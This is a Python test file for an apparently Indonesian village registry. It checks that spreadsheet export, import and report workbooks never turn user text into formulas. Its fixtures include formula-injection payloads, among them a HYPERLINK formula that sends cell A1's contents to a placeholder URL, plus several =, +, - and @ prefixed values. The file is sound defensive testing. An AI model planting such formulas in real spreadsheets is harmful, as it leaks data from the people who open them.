"""Spreadsheet text stays text (issue 13, item 1): no writer of ours lets openpyxl turn a user's
text (or one of our labels) into a formula, and the text survives export → import unchanged."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from impor import ekspor, layanan, sel
from impor import kolom as K
from impor.templat import buat_templat
from keluarga import services, xlsx
from keluarga.models import Anggota, Desa, Keluarga, Rumah
from laporan import services as laporan_services
from laporan.excel import buku_laporan
from tests import factories as f
from tests.test_definisi import desa_kecil, desa_kecil_berdata  # noqa: F401
from tests.test_ekspor import hapus_desa
from tests.test_laporan import desa  # noqa: F401

D = dt.date
KODE_DESA = "3326012009"
RUMUS = '=HYPERLINK("http://x/?x="&A1,"klik")'
# The values of the issue: each is text a spreadsheet would read as the start of a formula.
SERANGAN = ["-", "+6281234567890", "-5", "@ani", RUMUS]


def sel_rumus(buku: bytes) -> list[str]:
    """Every formula cell of a workbook (openpyxl's data_type), as sheet!coordinate."""
    wb = load_workbook(io.BytesIO(buku))
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def tanpa_tag_rumus(buku: bytes) -> bool:
    """No sheet of the package holds an <f> element (what Excel would evaluate)."""
    with zipfile.ZipFile(io.BytesIO(buku)) as z:
        return not any(
            b"<f>" in z.read(n) or b"<f " in z.read(n)
            for n in z.namelist()
            if n.startswith("xl/worksheets/")
        )


def desa_serangan() -> Desa:
    """A desa whose members, places and houses carry the hostile texts."""
    d = Desa.objects.create(kode=KODE_DESA, nama="Pakumbulan")
    rt = services.buat_rt(desa=d, dusun="=Krajan", rw="001", rt="001")
    k = services.buat_keluarga(rt=rt, no_kk="3326010101240091", nomor_rumah="-5")
    k.rumah.alamat = RUMUS
    k.rumah.save()
    tgl = [D(1985, 3, 15), D(1990, 8, 5), D(2015, 1, 1), D(2016, 2, 2), D(2017, 3, 3)]
    nama = ["Budi", "@ani", RUMUS, "+ Tono", "-Sari"]
    hubungan = ["1", "3", "4", "4", "4"]
    for i, tempat in enumerate(SERANGAN):
        jk = "L" if i in (0, 3) else "P"
        services.tambah_anggota(
            keluarga=k,
            pada=D(2024, 1, 15),
            nama=nama[i],
            jenis_kelamin=jk,
            tanggal_lahir=tgl[i],
            hubungan=hubungan[i],
            status_kawin="kawin" if i < 2 else "belum_kawin",
            tempat_lahir=tempat,
            nik=f.nik_untuk(tgl[i], jk, 100 + i),
        )
    return d


def isi_teks(kode_desa: str) -> dict:
    d = Desa.objects.get(kode=kode_desa)
    return {
        "anggota": sorted(Anggota.objects.filter(desa=d).values_list("nama", "tempat_lahir")),
        "rumah": sorted(Rumah.objects.filter(desa=d).values_list("nomor", "alamat")),
        "dusun": sorted(d.dusun_set.values_list("nama", flat=True)),
    }


def test_a_member_named_like_a_formula_is_exported_as_text(db):
    d = desa_serangan()
    buku = ekspor.ekspor_daftar(Keluarga.objects.filter(desa=d), nik_penuh=True)
    assert sel_rumus(buku) == [] and tanpa_tag_rumus(buku)
    ws = load_workbook(io.BytesIO(buku))[K.LEMBAR_ANGGOTA]
    judul = [c.value for c in ws[1]]
    kolom_nama, kolom_tempat = judul.index("Nama") + 1, judul.index("Tempat lahir") + 1
    nama = {ws.cell(r, kolom_nama).value for r in range(2, ws.max_row + 1)}
    tempat = [ws.cell(r, kolom_tempat) for r in range(2, ws.max_row + 1)]
    assert {RUMUS, "@ani", "+ Tono", "-Sari"} <= nama
    assert sorted(c.value for c in tempat) == sorted(SERANGAN)
    assert {c.data_type for c in tempat} == {"s"}
    kel = load_workbook(io.BytesIO(buku))[K.LEMBAR_KELUARGA]
    assert RUMUS in [c.value for row in kel.iter_rows() for c in row]


def test_formula_like_text_survives_a_whole_desa_export_and_import_unchanged(db, tmp_path):
    desa_serangan()
    sebelum = isi_teks(KODE_DESA)
    assert ("Budi", "-") in sebelum["anggota"] and sebelum["dusun"] == ["=Krajan"]
    path = tmp_path / "desa.xlsx"
    ekspor.ekspor_desa(Desa.objects.get(kode=KODE_DESA), nik_penuh=True, tujuan=path)
    buku = path.read_bytes()
    assert sel_rumus(buku) == [] and tanpa_tag_rumus(buku)
    hapus_desa(KODE_DESA)
    hasil = layanan.jalankan(
        path=path,
        nama_berkas="desa.xlsx",
        desa=Desa(kode=KODE_DESA, nama="Pakumbulan"),
        simpan=True,
    )
    assert hasil.tersimpan, hasil.impor.masalah
    assert isi_teks(KODE_DESA) == sebelum


def test_the_report_workbook_has_no_formula_cells_and_keeps_its_labels(desa):  # noqa: F811
    buf = io.BytesIO()
    buku_laporan(laporan_services.laporan_bulan(desa, 2026, 10)).save(buf)
    buku = buf.getvalue()
    assert sel_rumus(buku) == [] and tanpa_tag_rumus(buku)
    t2 = load_workbook(io.BytesIO(buku))["T2 Mutasi"]
    akhir = [row for row in t2.iter_rows() if row[0].value == "= Akhir bulan"]
    assert len(akhir) == 1 and akhir[0][0].data_type == "s"
    assert [c.value for c in akhir[0][1:4]] == [12, 14, 26]


def test_a_region_named_like_a_formula_stays_text_in_the_report_workbook(db):
    d = f.DesaFactory(kode="3326012010", nama="=SUM(A1:A9)", bulan_awal_data=D(2026, 1, 1))
    buf = io.BytesIO()
    buku_laporan(laporan_services.laporan_bulan(d, 2026, 10)).save(buf)
    assert sel_rumus(buf.getvalue()) == []
    a2 = load_workbook(io.BytesIO(buf.getvalue()))["T1 Penduduk"]["A2"]
    assert a2.value.startswith("Desa =SUM(A1:A9) · bulan") and a2.data_type == "s"


@pytest.mark.parametrize("jenis", list(K.TEMPLAT))
def test_the_import_templates_have_no_formula_cells(jenis):
    buku = buat_templat(jenis)
    assert sel_rumus(buku) == []


@pytest.mark.parametrize(
    "tertulis,terbaca",
    [
        ("'=SUM(A1)", "=SUM(A1)"),
        ("'+6281234567890", "+6281234567890"),
        ("'-5", "-5"),
        ("'-", "-"),
        ("'@ani", "@ani"),
        ("''=x", "'=x"),  # exactly one is stripped
        ("'Ani", "'Ani"),  # not before a formula character: kept
        ("'", "'"),
        ("=x", "=x"),
    ],
)
def test_the_importer_strips_exactly_one_quote_before_a_formula_character(tertulis, terbaca):
    assert sel.teks(tertulis) == terbaca


def test_a_quoted_number_is_read_without_its_quote():
    assert sel.desimal("'-5") == -5.0
    assert sel.bilangan("'-5") == -5
    assert sel.desimal("'+7,5") == 7.5


@pytest.mark.parametrize("teks", [*SERANGAN, "'=x", "''-5", "'Ani", "Ani", "\tTab", "\rCR"])
def test_a_quote_prefix_for_untyped_files_comes_back_unchanged(teks):
    assert xlsx.tanpa_kutip(xlsx.dengan_kutip(teks)) == teks
    assert xlsx.tanpa_kutip(xlsx.teks_tersimpan(teks)) == teks
    if teks[:1] in xlsx.PEMICU:
        assert xlsx.dengan_kutip(teks) == "'" + teks
